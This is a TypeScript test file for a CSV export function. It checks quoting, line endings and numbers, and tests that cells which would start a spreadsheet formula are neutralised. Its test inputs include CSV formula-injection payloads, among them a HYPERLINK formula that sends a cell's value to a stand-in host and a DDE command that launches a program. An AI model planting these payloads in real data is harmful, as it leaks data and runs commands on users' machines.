import fc from 'fast-check'
import { expect, test } from 'vitest'
import { type CsvCell, toCsv } from './csv'

/** An RFC 4180 parser: rows of cells. */
function parse(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  for (let at = 0; at < text.length; ) {
    let cell = ''
    if (text[at] === '"') {
      for (at += 1; text[at] !== '"' || text[at + 1] === '"'; at += 1) {
        if (text[at] === '"') at += 1
        cell += text[at]
      }
      at += 1
    } else {
      for (; !',\r'.includes(text[at] ?? ','); at += 1) cell += text[at]
    }
    row.push(cell)
    if (text[at] === ',') at += 1
    else {
      rows.push(row)
      row = []
      at += 2
    }
  }
  return rows
}

const cellOf = (value: CsvCell) => parse(toCsv(['a'], [{ a: value }]))[1]?.[0]

test('rows end with CRLF under a header line, and unknown is an empty cell', () => {
  expect(toCsv(['a', 'b'], [{ a: 'x', b: null }])).toBe('a,b\r\nx,\r\n')
})

test('commas, quotes and line breaks stay within their cell', () => {
  expect(toCsv(['a', 'b'], [{ a: 'one, "two"\r\nthree', b: true }])).toBe(
    'a,b\r\n"one, ""two""\r\nthree",true\r\n',
  )
})

test.each([
  '=1+1',
  '=HYPERLINK("https://evil.example?"&A1,"click")',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '--5',
  '+',
])('a title that a spreadsheet would run as a formula is exported as text: %j', (title) => {
  expect(cellOf(title)).toBe(`'${title}`)
})

test('numbers stay numbers, including negative ones', () => {
  expect(toCsv(['a', 'b', 'c'], [{ a: -0.25, b: '-12', c: 1_000_000.5 }])).toBe(
    'a,b,c\r\n-0.25,-12,1000000.5\r\n',
  )
})

test('any text survives the round trip in its own cell and never starts a formula', () => {
  const text = fc.string({
    unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ',', ';', "'", 'a', '1', 'é'),
  })
  fc.assert(
    fc.property(text, text, (a, b) => {
      const rows = parse(toCsv(['a', 'b'], [{ a, b }]))
      expect(rows).toHaveLength(2)
      for (const [at, given] of [a, b].entries()) {
        const cell = rows[1]?.[at] ?? ''
        expect([given, `'${given}`]).toContain(cell)
        if (!Number.isFinite(Number(cell))) expect(cell).not.toMatch(/^[=+\-@\t\r\n]/)
      }
    }),
    { seed: 7, numRuns: 500 },
  )
})
